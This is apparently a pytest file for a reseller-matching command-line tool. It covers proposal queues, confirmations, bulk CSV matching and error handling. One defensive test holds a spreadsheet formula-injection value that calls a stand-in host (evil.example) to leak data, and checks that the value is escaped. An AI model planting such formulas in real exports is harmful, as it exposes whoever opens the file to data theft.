"""`channelflow resellers masters|proposals|confirm|reject|match` over real HTTP (the embedded
app): the masters with their aliases, the queue listed, a proposal confirmed and one
rejected, and a CSV matched in bulk (its outcomes written, the automatic mappings and the
review rows' proposals sent unless --dry-run, a proposal then confirmed from the queue, the
file sent again changing nothing); errors without traceback."""

from __future__ import annotations

import csv
from collections.abc import Iterator
from pathlib import Path

import orjson
import pytest

from streams.auth import TokenRegistry, token_hash
from streams.cli.main import main
from tests.live_app import LiveApp
from tests.unit.party_events import customer_mapped, customer_registered
from tests.unit.test_match_queue import M1, M2, TYPO, onboarding


@pytest.fixture
def app() -> Iterator[LiveApp]:
    tokens = TokenRegistry(
        [
            {"sha256": token_hash("adm"), "role": "admin", "actor": "adm"},
            {"sha256": token_hash("cm"), "role": "channel_manager", "actor": "cm"},
        ]
    )
    live = LiveApp(tokens).start()
    live.feed([M1, M2, TYPO, onboarding(20, "R5", "Acme Tolls", country="US", postal_code="94108")])
    yield live
    live.stop()


def cli(app: LiveApp, *args: str, token: str = "cm") -> list[str]:
    return ["resellers", *args, "--url", app.url, "--token", token]


def test_the_queue_listed_confirmed_and_rejected(app: LiveApp, capsys) -> None:
    assert main(cli(app, "proposals", "--json")) == 0
    rows = orjson.loads(capsys.readouterr().out)
    assert [(r["alias_id"], r["best_score"]) for r in rows] == [("R2", "88.03"), ("R5", "84.00")]
    assert main(cli(app, "proposals")) == 0
    table = capsys.readouterr().out.splitlines()
    assert table[0].split()[:3] == ["distributor", "reseller", "status"] and "M1 88.03" in table[1]
    assert main(cli(app, "confirm", "D1", "R2", "--reason", "same owner")) == 0
    assert "D1 R2: confirmed as M1" in capsys.readouterr().out
    assert main(cli(app, "reject", "D1", "R5", "--reason", "another shop")) == 0
    assert main(cli(app, "proposals")) == 0
    assert "no open proposals" in capsys.readouterr().out
    assert main(cli(app, "proposals", "--status", "all", "--json")) == 0
    statuses = [(r["alias_id"], r["status"]) for r in orjson.loads(capsys.readouterr().out)]
    assert statuses == [("R2", "confirmed"), ("R5", "rejected")]


def test_the_masters_with_their_aliases(app: LiveApp, capsys) -> None:
    assert main(cli(app, "confirm", "D1", "R2", "--reason", "same owner")) == 0
    capsys.readouterr()
    assert main(cli(app, "masters", "--json")) == 0
    rows = orjson.loads(capsys.readouterr().out)
    assert [(r["master_id"], r["country"], r["aliases"]) for r in rows] == [
        ("M1", "US", ["D1|R2"]), ("M2", "DE", []),
    ]  # fmt: skip
    assert main(cli(app, "masters")) == 0
    table = capsys.readouterr().out.splitlines()
    assert table[0].split() == ["master", "legal", "name", "country", "aliases"]
    assert table[1].split() == ["M1", "Acme", "Tools", "Inc.", "US", "1", "(D1|R2)"]
    assert table[2].split() == ["M2", "Zeta", "Audio", "Systems", "DE", "0"]
    assert main(cli(app, "masters", "--master", "M2", "--json")) == 0
    assert [r["master_id"] for r in orjson.loads(capsys.readouterr().out)] == ["M2"]


def test_the_end_customers_masters_without_names(app: LiveApp, capsys) -> None:
    sealed = "pii1.0123456789abcdef0123456789abcdef.AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"
    app.feed([customer_registered("EC-M1", sealed, n=30), customer_mapped("D1", "EC-7", "EC-M1")])
    end_customers = ["end-customers", "masters", "--url", app.url, "--token", "cm"]
    assert main([*end_customers, "--json"]) == 0
    rows = orjson.loads(capsys.readouterr().out)
    assert [(r["master_id"], r["aliases"]) for r in rows] == [("EC-M1", ["D1|EC-7"])]
    assert main(end_customers) == 0
    table = capsys.readouterr().out
    assert table.splitlines()[1].split() == ["EC-M1", "US", "94105", "1", "(D1|EC-7)"]
    assert "pii1" not in table


def test_errors_without_traceback(app: LiveApp, capsys) -> None:
    assert main(cli(app, "confirm", "D1", "R2")) == 2
    assert "--reason" in capsys.readouterr().err
    assert main(cli(app, "reject", "D1", "NOPE", "--reason", "x")) == 2
    assert "HTTP 404" in capsys.readouterr().err
    assert main(cli(app, "confirm", "D1")) == 2
    assert "DISTRIBUTOR RESELLER_ID" in capsys.readouterr().err
    assert main(["resellers", "proposals", "--url", "http://127.0.0.1:9"]) == 3
    assert main(cli(app, "masters", "M1")) == 2
    assert "--master" in capsys.readouterr().err


def write_csv(path: Path, rows: list[list[str]]) -> Path:
    with path.open("w", newline="") as handle:
        csv.writer(handle).writerows(
            [["distributor_id", "reseller_id", "name", "country", "postal_code", "address"],
             *rows]
        )  # fmt: skip
    return path


ROWS = [
    ["D9", "X1", "ACME TOOLS LLC", "US", "94105-1804", "1 Market St."],  # automatic
    ["D9", "X2", "Acme Tols", "US", "94107", ""],  # review
    ["D9", "X3", "Quite Different", "US", "94105", ""],  # new
    ["D9", "X4", "Acme", "USA", "94105", ""],  # invalid country
]


def test_a_bulk_match_writes_outcomes_and_sends_the_mappings_and_proposals(
    app: LiveApp, tmp_path: Path, capsys
) -> None:
    source, out = write_csv(tmp_path / "resellers.csv", ROWS), tmp_path / "outcomes.csv"
    assert main(cli(app, "match", str(source), "--out", str(out), "--dry-run", token="adm")) == 1
    outcomes = list(csv.DictReader(out.open()))
    assert [(o["line"], o["outcome"], o["master_id"]) for o in outcomes] == [
        ("2", "automatic", "M1"), ("3", "review", ""), ("4", "new", ""), ("5", "invalid", ""),
    ]  # fmt: skip
    assert outcomes[1]["candidates"] == "M1:88.03"
    assert outcomes[3]["problem"] == "country: 'USA' is not an ISO 3166 alpha-2 code"
    assert "sent: 0" in capsys.readouterr().err
    assert app._call(lambda: app.channel.stores.party_aliases.get("id|D9|X1")) is None
    assert main(cli(app, "proposals", "--distributor", "D9", "--json")) == 2
    # --dry-run: nothing in the queue, nothing of D9's anywhere
    assert "no distributor D9 is known" in capsys.readouterr().err
    assert main(cli(app, "match", str(source), "--out", str(out), token="adm")) == 1
    summary = capsys.readouterr().err
    assert "automatic: 1" in summary and "review: 1" in summary and "sent: 2" in summary
    assert main(cli(app, "proposals", "--distributor", "D9", "--json")) == 0
    [row] = orjson.loads(capsys.readouterr().out)
    assert (row["alias_id"], row["status"], row["best_score"]) == ("X2", "open", "88.03")
    assert row["candidates"][0]["reasons"] == [
        "name 94.74", "postal 50 (same postal area)", "no address to compare",
    ]  # fmt: skip
    assert main(cli(app, "confirm", "D9", "X2", "--reason", "same owner")) == 0
    assert "D9 X2: confirmed as M1" in capsys.readouterr().out
    assert main(cli(app, "match", str(source), "--out", str(out), token="adm")) == 1
    capsys.readouterr()  # sent again: the history and the queue recognise it
    alias = app._call(lambda: app.channel.stores.party_aliases.get("id|D9|X1"))
    assert alias is not None and alias.master_id == "M1" and len(alias.history) == 1
    assert alias.history[0].automatic and alias.history[0].changed_by == "matcher"
    confirmed = app._call(lambda: app.channel.stores.party_aliases.get("id|D9|X2"))
    assert confirmed is not None and [s.changed_by for s in confirmed.history] == ["cm"]
    assert main(cli(app, "proposals", "--distributor", "D9", "--status", "all", "--json")) == 0
    [row] = orjson.loads(capsys.readouterr().out)
    assert (row["status"], row["closed_by"], row["master_id"]) == ("confirmed", "cm", "M1")
    assert app._call(lambda: app.channel.dead_letters) == []


def test_an_unreadable_file_is_an_error_naming_the_line(
    app: LiveApp, tmp_path: Path, capsys
) -> None:
    source = write_csv(tmp_path / "resellers.csv", ROWS[:1])
    source.write_bytes(source.read_bytes() + b"D9,X9,Caf\xe9,US,94105,\n")
    assert main(cli(app, "match", str(source), "--dry-run", token="adm")) == 2
    assert f"{source}: line 3: not UTF-8 (invalid continuation byte)" in capsys.readouterr().err
    headless = tmp_path / "headless.csv"
    headless.write_text("distributor_id,name\nD9,Acme\n")
    assert main(cli(app, "match", str(headless), "--dry-run", token="adm")) == 2
    assert "line 1: the header lacks reseller_id, country" in capsys.readouterr().err


def test_an_outcome_a_spreadsheet_would_evaluate_is_written_as_text(
    app: LiveApp, tmp_path: Path, capsys
) -> None:
    """The file's ids come back in the outcomes, which people open in a spreadsheet: one
    that reads as a formula gets a quote in front (streams/audit/safe_csv.py)."""
    link = '=HYPERLINK("http://evil.example/?leak","open")'
    rows = [["-2+3", link, "Quite Different", "US", "94105", ""]]
    source, out = write_csv(tmp_path / "resellers.csv", rows), tmp_path / "outcomes.csv"
    main(cli(app, "match", str(source), "--out", str(out), "--dry-run", token="adm"))
    capsys.readouterr()
    [outcome] = list(csv.DictReader(out.open()))
    assert (outcome["distributor_id"], outcome["reseller_id"]) == ("'-2+3", "'" + link)
    assert (outcome["line"], outcome["outcome"]) == ("2", "new")


def test_a_file_that_is_not_there_is_said_before_the_api_is_asked(tmp_path: Path, capsys) -> None:
    """A typo in the file's name was `cannot reach` the API, status 3, when the API was away,
    and read every master first when it was not."""
    missing = tmp_path / "resellers.csv"
    assert main(["resellers", "match", str(missing), "--url", "http://127.0.0.1:9"]) == 2
    assert f"cannot read {missing}: No such file or directory" in capsys.readouterr().err
